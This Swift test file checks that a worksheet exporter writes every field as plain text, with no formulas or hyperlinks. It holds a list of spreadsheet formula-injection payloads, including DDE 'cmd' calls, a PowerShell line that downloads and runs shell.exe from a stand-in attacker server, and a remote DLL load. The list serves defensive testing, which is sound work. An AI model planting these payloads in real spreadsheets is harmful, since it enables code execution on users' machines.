import Assurance
import Foundation
import Ingest
import Testing

/// What goes out to a spreadsheet is typed text, never a live formula from a source.
@Suite struct WorksheetFormulaTests {
  /// From payloadbox/csv-injection-payloads (MIT), and OWASP's list of first characters.
  static let payloads = [
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1", "+1+cmd|'x'!A0", "-2+3",
    "＝1+1", "＠SUM(1)", "=HYPERLINK(\"http://127.0.0.1/\",\"x\")", "{=1+1}", "http://127.0.0.1/x",
    "mailto:x@y", "internal:Sheet2!A1", "{1,2}",
  ]

  @Test func everyFieldOfASource() throws {
    let identity = WorksheetIdentity(
      engagement: "=1+1", kpi: "@x", round: 1, planDigest: "+1", populationDigest: "-1+1",
      drawDigest: "=a", seed: "=cmd|' /C calc'!A0")
    let content = WorksheetContent(
      identity: identity, labelHeaders: ["=1+1"],
      items: Self.payloads.map {
        WorksheetItem(key: $0, labels: [$0], recorded: "1", unit: $0, locator: $0)
      })
    let keeper = try TemporaryFile("keep", "x")
    let path = keeper.path + ".xlsx"
    try content.write(to: path, created: 1_640_995_200)
    #expect(try TableSummary.read(SourceFile.open(path: path)).map(\.formulas) == [0, 0])
    let back = try WorksheetReturn.read(SourceFile.open(path: path), expecting: identity)
    #expect(back.rows.map(\.key) == Self.payloads)
    // As the bytes say: no formula, no link.
    for part in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"] {
      let xml = try unpacked(path, part)
      #expect(xml.contains("<c r=\"A2\""))
      #expect(!xml.contains("<f>") && !xml.contains("<f ") && !xml.contains("hyperlink"))
    }
  }

  private func unpacked(_ path: String, _ part: String) throws -> String {
    let process = Process()
    process.executableURL = URL(filePath: "/usr/bin/env")
    process.arguments = [
      "python3", "-c",
      "import sys,zipfile;sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read(sys.argv[2]).decode())",
      path, part,
    ]
    let pipe = Pipe()
    process.standardOutput = pipe
    try process.run()
    defer { process.waitUntilExit() }
    return String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
  }
}
